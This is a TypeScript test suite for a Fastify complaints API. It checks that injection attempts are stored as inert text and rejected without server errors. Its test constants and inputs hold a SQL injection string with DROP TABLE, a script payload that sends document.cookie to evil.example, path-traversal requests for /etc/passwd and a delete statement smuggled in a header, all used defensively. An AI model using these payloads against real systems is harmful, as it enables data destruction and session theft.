import type { FastifyInstance } from 'fastify';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { testCipher } from '../../../../../test/helpers/keys.js';
import { buildTestApp } from '../../../../../test/helpers/app.js';
import { createTestDatabase, type TestDatabase } from '../../../../../test/helpers/database.js';
import { tableCounts } from '../../../../../test/helpers/fixtures.js';

let database: TestDatabase;
let app: FastifyInstance;
let categoryId: string;
let districtId: string;

beforeAll(async () => {
  database = await createTestDatabase();
  app = await buildTestApp(database.db);
  categoryId = (await database.db.query('select id from categories order by id limit 1')).rows[0].id;
  districtId = (await database.db.query(`select id from areas where level = 'district' order by id limit 1`)).rows[0].id;
});
afterAll(async () => {
  await app.close();
  await database.drop();
});

const SQL = `Robert'); DROP TABLE complaints; -- ' OR '1'='1' /* \\ ; select pg_sleep(10);`;
const SCRIPT = `<script>alert(document.cookie)</script><img src=x onerror="fetch('//evil.example/'+document.cookie)">`;

const file = (extra: Record<string, unknown>) =>
  app.inject({ method: 'POST', url: '/api/v1/complaints', payload: { categoryId, description: 'Injection attempt as a complaint text.', location: { areaId: districtId }, ...extra } });
const own = async (created: { code: string; citizenSecret: string }) =>
  app.inject({ url: `/api/v1/complaints/${created.code}`, headers: { authorization: `Bearer ${created.citizenSecret}` } });

describe('injection attempts', () => {
  it('stores SQL meta-characters as text and gives them back unchanged; the tables are untouched', async () => {
    const res = await file({ description: `No water. ${SQL}`, location: { areaId: districtId, address: SQL }, contact: { name: SQL, email: "o'brien+x@example.pk" } });
    expect(res.statusCode).toBe(201);
    const row = (await database.db.query('select c.id, c.description, c.address, ci.id as citizen_id, ci.name, ci.email from complaints c join citizens ci on ci.id = c.citizen_id where c.code = $1', [res.json().code])).rows[0];
    // Personal fields are sealed at rest (field encryption); opened, they are the text sent, byte for byte.
    const cipher = testCipher();
    const stored = { description: row.description, address: cipher.open('complaints.address', row.id, row.address), name: cipher.open('citizens.name', row.citizen_id, row.name), email: cipher.open('citizens.email', row.citizen_id, row.email) };
    expect(stored).toEqual({ description: `No water. ${SQL}`, address: SQL, name: SQL, email: "o'brien+x@example.pk" });
    const view = (await own(res.json())).json().own;
    expect([view.description, view.address]).toEqual([`No water. ${SQL}`, SQL]);
    expect((await database.db.query(`select to_regclass('complaints') is not null as present`)).rows[0].present).toBe(true);
  });

  it('stores script tags inert: as text, returned JSON-encoded under a policy that runs nothing', async () => {
    const res = await file({ description: `Broken road. ${SCRIPT}`, contact: { name: SCRIPT, phone: '0300 1112223' } });
    expect(res.statusCode).toBe(201);
    expect((await database.db.query('select description from complaints where code = $1', [res.json().code])).rows[0].description).toBe(`Broken road. ${SCRIPT}`);
    const answer = await own(res.json());
    expect(answer.headers['content-type']).toMatch(/^application\/json/);
    expect(answer.headers['x-content-type-options']).toBe('nosniff');
    expect(answer.headers['content-security-policy']).toContain("default-src 'none'");
    expect(answer.json().own.description).toBe(`Broken road. ${SCRIPT}`);
    // The public view shows none of the citizen's text.
    expect((await app.inject({ url: `/api/v1/complaints/${res.json().code}` })).body).not.toContain('<script>');
  });

  it('refuses SQL and path tricks in codes, ids and queries with a 4xx, never a 5xx', async () => {
    const attempts = [
      `/api/v1/complaints/${encodeURIComponent("KP' OR '1'='1")}`,
      `/api/v1/complaints/${encodeURIComponent('../../etc/passwd')}`,
      `/api/v1/complaints/KP-7F3K-9QXA/attachments/${encodeURIComponent("1' OR '1'='1")}`,
      `/api/v1/areas?level=${encodeURIComponent("district'; drop table areas; --")}`,
      `/api/v1/areas?parentId=kp%00`,
      `/api/v1/complaints/KP%00`,
      '/api/v1/../../../etc/passwd',
    ];
    for (const url of attempts) {
      const res = await app.inject({ url });
      expect(res.statusCode, url).toBeGreaterThanOrEqual(400);
      expect(res.statusCode, url).toBeLessThan(500);
    }
    // A quoted id is only an id that matches nothing.
    const quoted = await app.inject({ url: `/api/v1/areas?parentId=${encodeURIComponent("kp' OR '1'='1")}` });
    expect([quoted.statusCode, quoted.json().areas]).toEqual([200, []]);
  });

  it('takes an Idempotency-Key with quotes as an opaque key', async () => {
    const headers = { 'idempotency-key': `key');delete/**/from/**/complaints;--` };
    const first = await app.inject({ method: 'POST', url: '/api/v1/complaints', headers, payload: { categoryId, description: 'Quoted idempotency key test.', anonymous: true } });
    const again = await app.inject({ method: 'POST', url: '/api/v1/complaints', headers, payload: { categoryId, description: 'Quoted idempotency key test.', anonymous: true } });
    expect(first.statusCode).toBe(201);
    expect(again.json().code).toBe(first.json().code);
  });

  it('answers text PostgreSQL cannot store (NUL characters) with a 400 naming the field, writing nothing', async () => {
    const before = await tableCounts(database.db);
    const res = await file({ description: 'Pothole on the road\u0000; select 1;', contact: { name: 'Ali\u0000', phone: '0300 1112224' } });
    expect(res.statusCode).toBe(400);
    expect(res.json().errors.map((e: { pointer: string }) => e.pointer).sort()).toEqual(['/contact/name', '/description']);
    expect(await tableCounts(database.db)).toEqual(before);
  });

  it('never answers 5xx to any text in any field', async () => {
    await fc.assert(
      fc.asyncProperty(fc.string({ unit: 'binary', minLength: 10, maxLength: 200 }), fc.string({ unit: 'binary', maxLength: 100 }), async (description, name) => {
        const res = await file({ description, contact: { name, phone: '0300 1112225' }, location: { areaId: districtId, address: name } });
        expect(res.statusCode).toBeLessThan(500);
        if (res.statusCode === 201) {
          const stored = (await database.db.query('select description from complaints where code = $1', [res.json().code])).rows[0].description;
          expect(stored).toBe(description.trim());
        }
      }),
      { numRuns: 150 },
    );
  });
});
